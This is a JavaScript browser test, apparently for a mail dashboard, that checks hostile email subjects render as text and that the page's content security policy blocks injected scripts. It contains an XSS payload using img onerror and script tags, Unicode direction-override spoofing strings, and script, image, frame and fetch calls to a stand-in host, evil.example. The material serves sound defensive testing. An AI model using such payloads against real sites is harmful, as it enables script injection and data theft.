// Mail that means harm stays text: markup, marks that turn the direction round, and a subject of 10 KB. The page's policy holds
// even where a script would get in.
import { go, shot, syncUntil, wait, world } from "./lib.mjs";

const markup = '<img src=x onerror="window.hurt=1"><script>window.hurt=2</script>';
const attacks = [
  ["grace@savannahsound.example", `Re: [SPRING] ${markup}`],
  ["elin@morgonvakt.example", "Re: [SPRING] \u202Egnirps\u2066 of the \u200F\u200Eend"],
  ["felix@harbourfm.example", `Re: [SPRING] ${"endless ".repeat(1250)}`],
];

export default async function hostile({ page, faults }) {
  await go(page, "Dashboard");
  for (const [who, subject] of attacks) await world("mail", { from: `"${markup}" <${who}>`, to: who, subject, text: `${markup} \u202Etxet` });
  await syncUntil(page, "23 sent, 12 replies");
  await page.getByRole("button", { name: /Replies received/ }).first().click();
  const drawer = page.getByRole("dialog");
  await wait(drawer.getByRole("option").filter({ hasText: "grace@savannahsound" })).toContainText("<img src=x onerror=");
  await wait(drawer.getByRole("option").filter({ hasText: "felix@harbourfm" })).toContainText("endless endless");
  const tallest = await drawer.getByRole("option").evaluateAll((all) => Math.max(...all.map((e) => e.getBoundingClientRect().height)));
  if (tallest > 160) throw new Error(`a row is ${tallest} px tall`);
  await shot(page, "hostile");
  await page.keyboard.press("Escape");
  for (const screen of ["Follow-ups", "Activity", "Dashboard"]) {
    await go(page, screen);
    await wait(page.getByRole("heading", { level: 1 })).toBeVisible();
    if (await page.locator("main img, main script").count()) throw new Error(`${screen} made an element of a subject`);
  }
  const hurt = await page.evaluate(() => window.hurt);
  if (hurt !== undefined) throw new Error("a subject ran as a script");
  const before = faults.length;
  await policy(page);
  faults.length = before; // what the policy stopped was told to the console, as it should be
}

/** Nothing inline runs, nothing remote is loaded, and the page cannot be framed or send itself anywhere. */
async function policy(page) {
  const broken = await page.evaluate(async () => {
    const seen = [];
    document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
    const inline = document.createElement("script");
    inline.textContent = "window.hurt = 3";
    document.body.append(inline);
    const remote = document.createElement("script");
    remote.src = "https://evil.example/x.js";
    document.body.append(remote);
    const image = new Image();
    image.src = "https://evil.example/pixel.png";
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);
    await fetch("https://evil.example/", { mode: "no-cors" }).catch(() => {});
    for (let i = 0; i < 100 && seen.length < 5; i += 1) await new Promise(requestAnimationFrame);
    for (const e of [inline, remote, frame]) e.remove();
    return { seen: seen.sort(), hurt: window.hurt };
  });
  const want = ["connect-src", "frame-src", "img-src", "script-src-elem", "script-src-elem"];
  if (broken.hurt !== undefined || JSON.stringify(broken.seen) !== JSON.stringify(want)) throw new Error(`the policy let through: ${JSON.stringify(broken)}`);
}
